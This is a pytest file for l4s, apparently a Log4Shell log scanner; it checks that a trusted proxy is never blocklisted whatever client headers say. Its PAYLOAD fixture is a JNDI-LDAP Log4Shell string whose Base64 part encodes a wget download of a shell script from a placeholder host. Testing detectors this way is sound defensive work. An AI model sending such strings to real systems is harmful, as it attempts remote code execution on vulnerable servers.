"""No log line can make l4s block the operator's own proxy (hostile-input review)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipeline import config
from pipeline.scan import scan

PROXY_NET = "11.0.0.0/24"
PAYLOAD = "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3guc2g=}"


def combined(peer: str, xff: str, payload: str = PAYLOAD) -> str:
    return (
        f'{peer} - - [12/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "{payload}" "{xff}"'
    )


def ecs(peer: str, headers: dict[str, str]) -> str:
    return json.dumps(
        {
            "@timestamp": "2021-12-12T10:00:00Z",
            "source": {"ip": peer},
            "user_agent": {"original": PAYLOAD},
            "http": {"request": {"method": "GET", "headers": headers}},
            "url": {"original": "/"},
        }
    )


@pytest.fixture
def settings(monkeypatch: pytest.MonkeyPatch) -> config.Settings:
    monkeypatch.setenv("L4S_DETECT__TRUSTED_PROXIES", json.dumps([PROXY_NET]))
    monkeypatch.setenv("L4S_BLOCKLIST__AGGREGATE_THRESHOLD", "2")
    return config.load()


@pytest.mark.parametrize(
    "line",
    [
        combined("11.0.0.20", "foo, 11.1.2.3"),
        combined("11.0.0.5", "unknown"),
        combined("11.0.0.6", "-"),
        combined("11.0.0.11", "11.6.6.7, unknown"),
        combined("11.0.0.21", PAYLOAD),
        ecs("11.0.0.30", {"X-Forwarded-For": "unknown"}),
        ecs("11.0.0.33", {"Forwarded": 'for="_hidden"'}),
        ecs("11.0.0.34", {}),
    ],
)
def test_a_proxy_that_names_no_usable_client_is_never_blocked(
    settings: config.Settings, tmp_path: Path, line: str
) -> None:
    log = tmp_path / "access.log"
    log.write_text(line + "\n")
    result = scan([str(log)], settings)
    assert result.store.totals()["attacks"] == 1
    assert result.blocklist == {}


def test_the_client_a_trusted_proxy_names_is_blocked(settings: config.Settings, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(combined("11.0.0.20", "11.7.7.7, 11.1.2.3") + "\n")
    result = scan([str(log)], settings)
    assert set(result.blocklist) == {"11.1.2.3"}


def test_an_untrusted_peers_header_is_ignored(settings: config.Settings, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(combined("11.1.2.4", "11.7.7.7") + "\n")
    assert set(scan([str(log)], settings).blocklist) == {"11.1.2.4"}


def test_no_prefix_is_published_around_a_trusted_proxy(settings: config.Settings, tmp_path: Path) -> None:
    # Attackers next to the proxy in its /24 would otherwise aggregate over it.
    log = tmp_path / "access.log"
    lines = [combined(f"11.0.0.{n}", "") for n in (7, 8, 9)]
    lines += [combined("11.0.0.20", f"11.0.0.{n}") for n in (7, 8, 9)]
    log.write_text("\n".join(lines) + "\n")
    result = scan([str(log)], settings)
    assert not any(address.startswith("11.0.0.") for address in result.blocklist)
